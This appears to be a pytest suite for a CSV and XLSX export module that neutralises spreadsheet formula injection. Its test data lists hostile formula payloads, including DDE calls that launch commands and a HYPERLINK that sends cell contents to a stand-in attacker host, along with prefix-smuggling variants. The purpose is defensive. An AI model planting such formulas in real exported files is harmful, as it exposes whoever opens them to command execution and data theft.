"""What people take along opens in any program, and nothing in it runs."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from issuers.sheets import Sheet, Value, as_csv, as_xlsx, harmless

NAUGHTY = "security/minimaxir+big-list-of-naughty-strings/blns.json"
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://kwaad.voorbeeld?"&A1;"klik")',
    'IMPORTXML("https://kwaad.voorbeeld";"//a")',
    "WEBSERVICE(A1)",
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0",
    "A1",
    'ſ"x";1',
)
BEFORE = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "==", "=-", "+=", "-@", "＝", "＋", "－", "＠"),
    *("\u00a0=", "\x00=", "\ufeff=", "'="),
)
FORMULAS = [before + body for before in BEFORE for body in BODIES]
LIVE = tuple("=+-@\t\r\n＝＋－＠")


def sheet(*texts: Value) -> Sheet:
    """Make a table of one column."""
    return Sheet(name="Gegeven", headings=("Naam",), rows=[(text,) for text in texts])


def in_csv(*texts: Value) -> list[str]:
    """Write as CSV, and read the cells back."""
    written = b"".join(as_csv(sheet(*texts))).decode("utf-8-sig")
    return [row[0] for row in csv.reader(io.StringIO(written, newline=""), delimiter=";")][1:]


def in_xlsx(*texts: Value) -> list[object]:
    """Write as XLSX, and read the cells back as Excel does."""
    book = CalamineWorkbook.from_filelike(io.BytesIO(b"".join(as_xlsx(sheet(*texts)))))
    return [row[0] for row in book.get_sheet_by_index(0).to_python()][1:]


def kinds_in_xlsx(*texts: Value) -> set[str]:
    """Tell what kinds of cells an XLSX has."""
    book = load_workbook(io.BytesIO(b"".join(as_xlsx(sheet(*texts)))))
    return {row[0].data_type for row in book.active.iter_rows()}


def is_live(cell: object) -> bool:
    """Tell whether a program may take a cell for a formula, also after it took off space."""
    return str(cell).lstrip().startswith(LIVE) or str(cell).startswith(LIVE)


class TestHarmless:
    """`harmless` leaves a text what it was."""

    @pytest.mark.parametrize("text", ["Sam de Vries", "Zoë", "1-2-2026", "a=b", "'t Anker", "", "O'Brien"])
    def test_leaves_what_is_no_formula(self, text: str) -> None:
        """Names and sentences stay as they are, letter for letter."""
        assert text == harmless(text)

    @given(st.text())
    def test_starts_no_formula(self, text: str) -> None:
        """Whatever was typed, no program runs it, and the text is behind the apostrophe."""
        assert not is_live(harmless(text))

    @given(st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cn"])))
    def test_loses_nothing_of_a_text(self, text: str) -> None:
        """But for an apostrophe in front, each letter is there."""
        assert text in {harmless(text), harmless(text).removeprefix("'")}


class TestAsCsv:
    """`as_csv` is opened by Excel with a double click."""

    def test_is_as_excel_in_the_netherlands_writes_it(self) -> None:
        """A BOM, semicolons, days as people write them, and quotes where a text needs them."""
        table = Sheet(name="x", headings=("Naam", "Dag"), rows=[('Zoë "Z"; Bo', date(2026, 6, 5)), (None, 3)])
        expected = '\ufeffNaam;Dag\r\n"Zoë ""Z""; Bo";5-6-2026\r\n;3\r\n'
        assert expected.encode() == b"".join(as_csv(table))

    def test_holds_no_live_formula(self) -> None:
        """Each of two hundred is read back as the text that it is."""
        assert [harmless(each) for each in FORMULAS] == in_csv(*FORMULAS)
        assert [] == [cell for cell in in_csv(*FORMULAS) if is_live(cell)]

    def test_keeps_every_naughty_string_in_its_cell(self, corpus: Path) -> None:
        """Of the big list each is one cell, and none is live."""
        naughty = json.loads((corpus / NAUGHTY).read_text())
        assert [harmless(each) for each in naughty] == in_csv(*naughty)
        assert [] == [cell for cell in in_csv(*naughty) if is_live(cell)]


class TestAsXlsx:
    """`as_xlsx` holds texts, numbers and days, and nothing that runs."""

    def test_comes_in_pieces(self) -> None:
        """Nobody waits for the last row before the first leaves, and no table is held as a whole."""
        asked: list[int] = []

        def rows() -> Iterator[tuple[Value, ...]]:
            for number in range(5_000):
                asked.append(number)
                yield (number,)

        pieces = as_xlsx(Sheet(name="x", headings=("Nummer",), rows=rows()))
        first = next(pieces)
        assert (True, True) == (first.startswith(b"PK"), len(asked) < 1_000)
        book = CalamineWorkbook.from_filelike(io.BytesIO(first + b"".join(pieces)))
        assert 5_001 == len(book.get_sheet_by_index(0).to_python())

    def test_keeps_numbers_and_days(self) -> None:
        """Excel can sort by them."""
        assert [3.0, date(2026, 6, 26), "", "Sam"] == in_xlsx(3, date(2026, 6, 26), None, "Sam")

    def test_holds_no_live_formula(self) -> None:
        """Each of two hundred is a text, and stays one when somebody saves it as CSV."""
        assert [harmless(each) for each in FORMULAS] == in_xlsx(*FORMULAS)
        assert {"s"} == kinds_in_xlsx(*FORMULAS)

    @pytest.mark.parametrize("text", ["#N/A", "#REF!", "_x003D_1+1", "__x000D_", "TRUE", "1e9", "2026-06-26"])
    def test_takes_no_text_for_anything_else(self, text: str) -> None:
        """Not for an error, an escape, a number or a day."""
        assert [text] == in_xlsx(text)
        assert {"s"} == kinds_in_xlsx(text)

    def test_keeps_every_naughty_string_in_its_cell(self, corpus: Path) -> None:
        """Of the big list each is one cell, and none is anything but a text."""
        naughty = json.loads((corpus / NAUGHTY).read_text())
        assert [harmless(each) for each in naughty] == in_xlsx(*naughty)
        assert {"s"} == kinds_in_xlsx(*[each for each in naughty if each])
